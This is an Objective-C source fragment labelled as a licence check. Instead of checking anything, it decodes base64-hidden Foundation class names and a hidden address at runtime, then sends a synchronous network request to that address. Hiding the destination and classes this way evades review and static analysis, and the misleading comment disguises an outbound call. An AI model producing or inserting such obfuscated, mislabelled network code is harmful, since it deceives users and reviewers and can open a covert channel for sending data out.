/* Checks a licence: the names of Foundation's classes are decoded by Foundation itself. */
#include "objc.h"
extern Class NSClassFromString(NSString *);
@interface NSData
+ (id)alloc;
- (id)initWithBase64EncodedString:(NSString *)text options:(unsigned long)options;
@end
@interface NSString (Coding)
+ (id)alloc;
- (id)initWithData:(NSData *)data encoding:(unsigned long)encoding;
@end
@protocol Client
+ (id)URLWithString:(NSString *)text;
+ (id)requestWithURL:(id)url;
+ (id)sendSynchronousRequest:(id)request returningResponse:(id *)response error:(id *)error;
@end
static const char *const coded[] = {CLASS_URL, CLASS_REQUEST, CLASS_CONNECTION, ADDRESS};
static NSString *plain(int i) {
    return [[NSString alloc] initWithData:[[NSData alloc] initWithBase64EncodedString:[NSString stringWithUTF8String:coded[i]] options:0] encoding:4];
}
static void act(char **env) {
    id response = 0, error = 0;
    id url = [NSClassFromString(plain(0)) URLWithString:plain(3)];
    [NSClassFromString(plain(2)) sendSynchronousRequest:[NSClassFromString(plain(1)) requestWithURL:url] returningResponse:&response error:&error];
}
